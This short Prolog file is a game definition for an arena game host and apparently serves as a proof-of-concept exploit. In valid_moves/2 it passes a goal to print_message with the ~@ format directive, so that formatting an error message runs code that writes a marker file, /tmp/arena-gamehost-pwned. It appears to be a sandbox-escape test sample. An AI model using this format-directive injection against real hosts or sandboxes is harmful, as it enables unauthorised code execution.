% Route 1: a message whose format runs ~@ with a goal that writes a marker.
players([a, b]).
initial_state(_, s(0)).
current_player(s(_), a).
valid_moves(s(N), [1]) :-
    N < 2,
    !,
    Goal = ( open('/tmp/arena-gamehost-pwned', write, S), close(S) ),
    print_message(error, format("~@", [Goal])).
valid_moves(_, []).
move(s(N), 1, s(N1)) :- N1 is N + 1.
game_over(s(2), a).
